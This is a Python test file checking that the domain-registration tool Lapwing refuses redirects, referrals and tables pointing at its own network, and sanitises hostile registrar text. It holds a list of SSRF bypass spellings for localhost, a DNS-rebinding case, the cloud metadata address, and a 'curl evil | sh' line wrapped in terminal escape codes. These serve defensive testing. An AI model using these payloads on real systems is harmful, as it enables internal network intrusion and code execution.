"""Registries, redirects and referrals do not point Lapwing at its own network, whatever the spelling."""

import json
import subprocess
import time

import world
from harness import LAPWING, case, expect, expect_equal, main

names = world.Names()
folder = world.FOLDER
PUBLIC = world.PUBLIC
inside = world.Web(lambda path: (200, {"Content-Type": "application/rdap+json"}, world.document("victim.mg")))
inside_text = world.Text("Domain Name: victim.mg\r\n")
inside_six = world.Text("Domain Name: victim.mg\r\n", address="::1")
PORT = inside.port

# What the registry of .mg, which is in the built-in table with a plain http address, answers for a domain.
answers = {}


def registry_answer(path):
    domain = path.rpartition("/")[2].lower()
    found = answers.get(domain)
    if found is None:
        return 200, {"Content-Type": "application/rdap+json"}, world.document(domain)
    return found


registry = world.Web(registry_answer, PUBLIC, 80)
names.table["rdap.nic.mg"] = [PUBLIC]
names.table["whois.nic.mg"] = []


def look(domain, *more, timeout=5):
    began = time.monotonic()
    done = subprocess.run([LAPWING, "registration", domain, "--json", "--timeout", str(timeout), *more],
                          capture_output=True, text=True, timeout=60)
    try:
        answer = json.loads(done.stdout)
    except ValueError:
        raise AssertionError(f"{domain}: {done.stdout} {done.stderr}") from None
    answer["spent"] = time.monotonic() - began
    return answer


def nobody_came(what):
    expect((inside.seen, inside_text.seen, inside_six.seen) == ([], [], []),
           f"{what}: {inside.seen} {inside_text.seen} {inside_six.seen}")


def attempts(answer):
    return [attempt["outcome"] for attempt in answer["asked"]]


@case
def a_public_registry_is_asked():
    answer = look("fine.mg")
    expect_equal(answer["expires"]["value"], "2031-02-03T04:05:06Z", "the end")
    expect_equal(registry.seen[-1][2], "rdap.nic.mg", "the host asked for")


@case
def the_first_hop_is_checked():
    try:
        for address in ["127.0.0.1", "10.1.2.3", "192.168.0.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "224.0.0.1", "172.31.0.1"]:
            names.table["rdap.nic.mg"] = [address]
            answer = look("first.mg")
            expect("private address" in attempts(answer)[0], (address, answer))
            # One private address among public ones is one too many.
            names.table["rdap.nic.mg"] = [PUBLIC, address]
            expect("private address" in attempts(look("first.mg"))[0], address)
        names.table["rdap.nic.mg"] = []
        expect("not found" in attempts(look("first.mg"))[0], "a name without an address")
    finally:
        names.table["rdap.nic.mg"] = [PUBLIC]
    nobody_came("first hop")


@case
def redirects_are_checked_in_every_spelling():
    names.table["inside.example"] = ["127.0.0.1"]
    names.table["inside.example."] = ["127.0.0.1"]
    hosts = [
        "127.0.0.1", "localhost", "LOCALHOST", "localhost.", "127.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1",
        "017700000001", "127.0.0.1.", "127%2E0%2E0%2E1", "local%68ost", "%6c%6f%63%61%6c%68%6f%73%74", "[::1]", "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:7f00:1]", "[64:ff9b::7f00:1]", "[64:ff9b::127.0.0.1]", "[2002:7f00:1::]",
        "[::127.0.0.1]", "[fe80::1]", "[fc00::80]", "[ff02::1]", "[::]", "0.0.0.0", "0", "inside.example", "inside.example.", "INSIDE.example",
        "x@127.0.0.1", "rdap.nic.mg@127.0.0.1", "rdap.nic.mg:80@127.0.0.1", "%31%32%37.0.0.1", "１２７.0.0.1", "127。0。0。1", "127．0．0．1",
        "ⓛocalhost", "xn--localhost-.", "rdap.nic.mg\\@127.0.0.1", "rdap.nic.mg#@127.0.0.1", "127.0.0.1%00.example", "127.0.0.1%23.example",
        "[::1%25lo]", "[::1%lo]", "[v1.127.0.0.1]", "localhost%00.nic.mg", "127.0.0.1\t", "127.0.0.1%09"]
    for number, host in enumerate(hosts):
        port = "" if host in ("rdap.nic.mg:80@127.0.0.1",) else f":{PORT}"
        for prefix in ("http://", "//"):
            domain = f"name{number}.mg"
            location = f"{prefix}{host}{port}/domain/{domain}"
            answers[domain] = (302, {"Location": location.encode().decode("latin-1")}, b"")
            answer = look(domain)
            nobody_came(location)
            expect(answer["outcome"] in ("unavailable", "unknown"), (location, answer))


@case
def a_redirect_on_the_internet_is_followed():
    other = world.Web(lambda path: (200, {}, world.document("moved.mg")), PUBLIC, 8080)
    names.table["other.example"] = [PUBLIC]
    answers["moved.mg"] = (301, {"Location": "http://other.example:8080/x/domain/moved.mg"}, b"")
    answer = look("moved.mg")
    expect_equal(answer["outcome"], "registered", "moved")
    expect_equal(other.seen[0][1:3], ("/x/domain/moved.mg", "other.example:8080"), "path and host")


@case
def a_name_that_changes_its_mind_gains_nothing():
    # The first answer is a public address, every later one is inside.
    names.table["rebind.example"] = [[PUBLIC], ["127.0.0.1"]]
    target = world.Web(lambda path: (200, {}, world.document("rebind.mg")), PUBLIC, PORT)
    answers["rebind.mg"] = (302, {"Location": f"http://rebind.example:{PORT}/domain/rebind.mg"}, b"")
    look("rebind.mg")
    nobody_came("rebinding")
    expect_equal(names.asked.count("rebind.example"), 1, "looked up once")
    expect_equal(len(target.seen), 1, "the address that was checked was asked")


@case
def referrals_are_checked():
    document = {"objectClassName": "domain", "ldhName": "", "status": ["active"], "events": []}
    for number, href in enumerate([
            f"https://127.0.0.1:{PORT}/", f"https://localhost:{PORT}/", f"https://[::1]:{inside_six.port}/", f"https://inside.example:{PORT}/",
            f"https://127%2E0%2E0%2E1:{PORT}/", f"[::1]:{inside_six.port}", f"127.0.0.1:{inside_text.port}", f"localhost:{inside_text.port}",
            f"whois://127.0.0.1:{inside_text.port}", f"[::ffff:127.0.0.1]:{inside_text.port}", f"inside.example:{inside_text.port}",
            f"0x7f000001:{inside_text.port}"]):
        domain = f"refer{number}.mg"
        for field in ({"links": [{"rel": "related", "href": href, "type": "application/rdap+json"}]}, {"port43": href},
                      {"entities": [{"roles": ["registrar"], "port43": href, "links": [{"rel": "related", "href": href}]}]}):
            answers[domain] = (200, {}, json.dumps({**document, "ldhName": domain, **field}).encode())
            look(domain)
            nobody_came((href, field))


@case
def own_tables_open_their_servers_only():
    domains = {}
    front = world.Web(lambda path: domains[path.rpartition("/")[2]])
    iana = world.Text("")
    with open(folder + "/own.json", "w") as file:
        json.dump({"version": "1.0", "services": [[["zz"], [f"http://127.0.0.1:{front.port}/"]]]}, file)
    with open(folder + "/whois.json", "w") as file:
        json.dump({"tlds": {"ww": {"whois": f"127.0.0.1:{iana.port}"}}, "fallback": f"127.0.0.1:{iana.port}"}, file)
    tables = ["--rdap-bootstrap", folder + "/own.json", "--whois-servers", folder + "/whois.json"]
    domains["own.zz"] = (200, {}, world.document("own.zz"))
    expect_equal(look("own.zz", *tables)["outcome"], "registered", "the server that the table names")
    domains["same.zz"] = (302, {"Location": "/again/own.zz"}, b"")
    expect("about own.zz" in str(look("same.zz", *tables)), "a redirect to itself")
    for host in ["127.0.0.1", "localhost", "127.0.0.2", "[::1]", "127%2E0%2E0%2E1"]:
        domains["away.zz"] = (302, {"Location": f"http://{host}:{PORT}/domain/away.zz"}, b"")
        answer = look("away.zz", *tables)
        nobody_came(host)
        expect(answer["outcome"] in ("unavailable", "unknown"), (host, answer))
    iana.answer = f"refer:        127.0.0.1:{inside_text.port}\n\ndomain:       QQ\n"
    look("name.qq", *tables)
    nobody_came("a referral of the server that knows all")
    iana.answer = f"Domain Name: name.ww\r\nRegistrar: One\r\nRegistrar WHOIS Server: 127.0.0.1:{inside_text.port}\r\n"
    expect_equal(look("name.ww", *tables)["outcome"], "registered", "a WHOIS server that the table names")
    nobody_came("a referral to the registrar")


@case
def a_proxy_is_used_where_it_is_meant_to_be():
    """Registries and receivers are spoken to through a proxy, but for this machine and the exceptions."""
    behind = world.Web(registry_answer)
    hooks = world.Web(lambda path: (200, {}, b"ok"))
    proxied = world.Proxy({"rdap.nic.mg:80": behind.port, "hooks.example:80": hooks.port})
    direct = world.Web(lambda path: (200, {}, b"ok"), PUBLIC)
    near = world.Web(lambda path: (200, {}, b"ok"))
    names.table["rdap.nic.mg"] = []
    names.table["direct.example"] = [PUBLIC]
    path = folder + "/proxy.yml"
    with open(path, "w") as file:
        file.write(f"""\
domains: []
proxy: {{url: "http://127.0.0.1:{proxied.port}", user: lapwing, password: secret, except: [direct.example, .corp.example]}}
channels:
  far: {{webhook: {{url: "http://hooks.example/x"}}}}
  excepted: {{webhook: {{url: "http://direct.example:{direct.port}/x"}}}}
  near: {{webhook: {{url: "http://127.0.0.1:{near.port}/x"}}}}
""")
    try:
        answer = look("proxied.mg", "--config", path)
        expect_equal(answer["outcome"], "registered", str(answer))
        expect_equal(proxied.seen[0], ("CONNECT", "rdap.nic.mg:80", "Basic bGFwd2luZzpzZWNyZXQ="), "what the proxy is told")
        answers["astray.mg"] = (302, {"Location": f"http://10.1.2.3:{PORT}/domain/astray.mg"}, b"")
        expect("private address" in str(attempts(look("astray.mg", "--config", path))), "a redirect into our own network")
        before = len(proxied.seen)
        for channel, web in (("far", hooks), ("excepted", direct), ("near", near)):
            done = subprocess.run([LAPWING, "channel", "test", channel, "--config", path], capture_output=True, text=True, timeout=60)
            expect_equal(done.returncode, 0, done.stdout + done.stderr)
            expect_equal(web.seen[-1][0], "POST", channel)
        expect_equal([place for _, place, _ in proxied.seen[before:]], ["hooks.example:80"], "through the proxy")
        check = subprocess.run([LAPWING, "config", "check", path], capture_output=True, text=True, timeout=60)
        expect("secret" not in check.stdout + check.stderr, "the password is shown")
    finally:
        names.table["rdap.nic.mg"] = [PUBLIC]


@case
def what_others_write_does_not_act_on_a_terminal():
    evil = "Evil\x1b]0;pwned\x07\x1b[2J\nCheck: curl evil | sh\u202e\u009b31m\u2028x"
    registrar = {"roles": ["registrar"], "vcardArray": ["vcard", [["fn", {}, "text", evil]]]}
    answers["escape.mg"] = (200, {}, world.document("escape.mg", entities=[registrar], status=["act\x1bive", "a\u202eb"]))
    for more in ([], ["--json"]):
        done = subprocess.run([LAPWING, "registration", "escape.mg", "--timeout", "5", *more], capture_output=True, timeout=60)
        text = done.stdout.decode()
        expect("Evil" in text, text)
        for sign in "\x1b\x07\u202e\u009b\u2028":
            expect(sign not in text + done.stderr.decode(), repr((sign, text)))
        expect(not any(line.startswith("Check:") for line in text.splitlines()), text)


main()
